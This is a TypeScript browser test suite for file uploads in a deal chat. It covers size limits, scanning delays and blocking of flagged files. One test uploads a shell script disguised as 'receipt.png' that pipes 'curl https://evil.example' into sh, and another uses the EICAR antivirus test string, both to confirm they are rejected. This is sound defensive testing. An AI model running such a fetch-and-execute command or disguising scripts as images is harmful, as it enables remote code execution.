// Files in a deal's chat: limits and scans; names and interrupted uploads: deal-files.full.test.ts.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as assert from 'uvu/assert';
import { createBrowserSuite } from '../harness/browser/suite.ts';
import { EICAR, startFakeHttpScanner } from '../server/files/fake-scanners.ts';
import { jpegOf, pictureWith } from '../server/files/samples.ts';
import {
  attachFile,
  createPicture,
  expectText,
  messageList,
  messagesWith,
  openBothDealPages,
  openPhotoButton,
} from './deal-user-actions.ts';

const scanner = await startFakeHttpScanner();
const { scenario, run } = createBrowserSuite('deal files', {
  env: { SCAN_URL: scanner.url },
  timing: { RECONNECT_MS: 200 },
  isStill: true,
});

const MEGABYTE = 1024 * 1024;
/** Saves a file of this size with the container of a JPEG; resolves with its path. */
async function savePhoto(directory: string, name: string, bytes: number): Promise<string> {
  const path = join(directory, name);
  await writeFile(path, jpegOf(bytes));
  return path;
}
scenario(
  'CHAT-02 a script with a picture’s name is refused, a photo of 10 MB is accepted, one byte more is refused',
  async (env) => {
    const { alice, bob } = await openBothDealPages(env);
    const directory = await mkdtemp(join(tmpdir(), 'kantor-photos-'));
    env.afterPhones(() => rm(directory, { recursive: true }));
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    await attachFile(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
    await expectText(alice, 'Only images and PDF files are supported.');
    await attachFile(alice, 'Photo', await savePhoto(directory, 'too-large.jpg', 10 * MEGABYTE + 1));
    await expectText(alice, 'The file is too large. At most 10 MB are allowed.');
    await attachFile(alice, 'Photo', await savePhoto(directory, 'large.jpg', 10 * MEGABYTE));
    await messagesWith(alice, '')
      .getByRole('img', { name: /^(Sent|Read)$/ })
      .waitFor();
    await openPhotoButton(bob, 'large.jpg').waitFor();
    assert.is(
      await messageList(bob)
        .getByRole('button', { name: /^Open photo/ })
        .count(),
      1,
      'and nothing else came',
    );
  },
);

scenario(
  'FILE-03 the other party opens a file once it is checked; a dangerous one is blocked on both phones',
  async (env) => {
    const { alice, bob } = await openBothDealPages(env);
    const names = (name: string) => [openPhotoButton(alice, name), openPhotoButton(bob, name)] as const;
    try {
      scanner.behave = 'hang';
      await attachFile(alice, 'Photo', createPicture('first.png'));
      await expectText(bob, 'Checking the file…');
      const [ofAlice, ofBob] = names('first.png');
      assert.equal([await ofAlice.count(), await ofBob.count()], [1, 0], 'only its sender can open it');
      scanner.release();
      await ofBob.waitFor();
      const dangerous = pictureWith(Buffer.from(EICAR));
      await attachFile(alice, 'Photo', { name: 'second.png', mimeType: 'image/png', buffer: dangerous });
      for (const phone of [alice, bob]) await expectText(phone, 'Blocked: this file is dangerous');
      for (const button of names('second.png')) assert.is(await button.count(), 0);
    } finally {
      await scanner.close();
    }
  },
);

run();
